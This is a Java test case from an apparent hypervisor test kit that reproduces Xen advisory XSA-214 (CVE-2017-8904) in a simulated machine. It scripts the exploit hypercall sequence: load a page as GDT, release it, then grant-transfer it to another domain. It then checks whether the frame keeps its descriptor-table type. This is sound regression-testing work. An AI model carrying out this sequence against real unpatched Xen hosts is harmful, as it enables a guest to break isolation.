package io.github.paravane.testkit.advisory.paging;

import io.github.paravane.api.guest.KernelPort;
import io.github.paravane.api.paging.Pte;
import io.github.paravane.hypervisor.machine.DomainConfig;
import io.github.paravane.hypervisor.machine.FrameState;
import io.github.paravane.hypervisor.machine.PvMachine;
import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.Evidence;
import io.github.paravane.testkit.advisory.Finding;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.advisory.Outcome;
import io.github.paravane.testkit.advisory.ScriptSteps;
import io.github.paravane.testkit.advisory.Stand;
import io.github.paravane.testkit.advisory.TableSteps;
import io.github.paravane.testkit.guest.BootScript;
import io.github.paravane.testkit.guest.KernelSpace;
import io.github.paravane.testkit.runtime.GuestRuntime;
import io.github.paravane.testkit.runtime.Hypercalls;

/** XSA-214: a frame that is given away keeps its type. */
final class StolenType {

    private static final int GNTTABOP_SETUP_TABLE = 2;
    private static final int GNTTABOP_TRANSFER = 4;
    private static final int DECREASE_RESERVATION = 1;
    private static final int ACCEPT_TRANSFER = 2;
    private static final int REFERENCE = 8;
    private static final int RECEIVER = 2;
    private static final int GIVER = 1;

    private StolenType() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of("xsa-214", Layer.PAGING, "A frame that is given away keeps its type")
                .names("XSA-214", "CVE-2017-8904", "eaf537342c")
                .mechanism("A frame that was a descriptor table and is not in use keeps the type and the mark that its "
                        + "descriptors are checked, so that it need not be checked again. A grant transfer gives it to "
                        + "another domain with both. What a 64-bit domain may have in its tables a 32-bit one may not: "
                        + "given such a frame, it has descriptors that nobody checked by its rules.")
                .construction(
                        "A domain uses a page as GDT, takes the GDT away again, and transfers the page to another "
                                + "domain.")
                .telling("The frame has the type of descriptor tables in its new owner's hands, or none.")
                .affected("3.3 to 4.8")
                .repaired("4.9 (eaf537342c)")
                .provenance("XSA-214; Xen commits 69f74e87be and eaf537342c")
                .build();
        return new KnownBug(advisory, AbiProfiles.XEN_4_8, AbiProfiles.XEN_4_9, StolenType::play);
    }

    /** The frame, the status of the transfer, and the results of the other hypercalls are in {@code seen}. */
    private static Finding play(Stand stand) {
        // The domain that was added last runs first.
        long[] seen = {-1, -1, 0};
        PvMachine machine = stand.machine()
                .domain(DomainConfig.of(new BootScript((port, space) -> giveAway(port, space, seen))))
                .domain(DomainConfig.of(new BootScript((port, space) -> {
                    acceptTransfer(port, space, seen);
                    new ScriptSteps(port, space).waitForEver();
                })))
                .build();
        stand.run(machine);
        if (seen[1] != 0 || seen[2] != 0) {
            return Finding.of(Outcome.ERROR, "the frame was not transferred")
                    .with("status", seen[1])
                    .with("results", seen[2]);
        }
        FrameState frame = machine.frame(seen[0]);
        return Finding.of(
                        frame.type().equals("segments"),
                        "the frame is a descriptor table still",
                        "the frame has no type")
                .with("owner", frame.owner())
                .with(new Evidence("type", frame.type()));
    }

    /** The first frame of the grant table has an entry in which the giver may put a frame. */
    private static void acceptTransfer(KernelPort port, KernelSpace space, long[] seen) {
        long request = space.requestPage();
        port.store(request, 4, GuestRuntime.DOMID_SELF);
        port.store(request + 4, 4, 1);
        port.store(request + 16, 8, request + 64);
        seen[2] |= port.hypercall(Hypercalls.GRANT_TABLE_OP, GNTTABOP_SETUP_TABLE, request, 1);
        long table = space.allocate();
        long entry = Pte.of(port.load(request + 64, 8), TableSteps.PAGE);
        seen[2] |= port.hypercall(Hypercalls.UPDATE_VA_MAPPING, table, entry, 2);
        port.store(table + 8 * REFERENCE, 8, ACCEPT_TRANSFER | GIVER << 16);
        giveBack(port, space, seen);
    }

    /** A domain that has all its memory cannot be given more. */
    private static void giveBack(KernelPort port, KernelSpace space, long[] seen) {
        long page = space.allocate();
        long request = space.requestPage();
        port.store(request + 64, 8, space.mfn(page));
        seen[2] |= port.hypercall(Hypercalls.UPDATE_VA_MAPPING, page, 0, 2);
        port.store(request, 8, request + 64);
        port.store(request + 8, 8, 1);
        port.store(request + 16, 8, 0);
        port.store(request + 24, 8, GuestRuntime.DOMID_SELF);
        seen[2] |= port.hypercall(Hypercalls.MEMORY_OP, DECREASE_RESERVATION, request) - 1;
    }

    private static void giveAway(KernelPort port, KernelSpace space, long[] seen) {
        long page = space.allocate();
        long request = space.requestPage();
        seen[0] = space.mfn(page);
        space.protect(page);
        port.store(request, 8, seen[0]);
        seen[2] |= port.hypercall(Hypercalls.SET_GDT, request, 512);
        seen[2] |= port.hypercall(Hypercalls.SET_GDT, request, 0);
        seen[2] |= port.hypercall(Hypercalls.UPDATE_VA_MAPPING, page, 0, 2);
        port.store(request, 8, seen[0]);
        port.store(request + 8, 8, (long) REFERENCE << 32 | RECEIVER);
        port.store(request + 16, 8, -1);
        seen[2] |= port.hypercall(Hypercalls.GRANT_TABLE_OP, GNTTABOP_TRANSFER, request, 1);
        seen[1] = (short) port.load(request + 16, 2);
    }
}
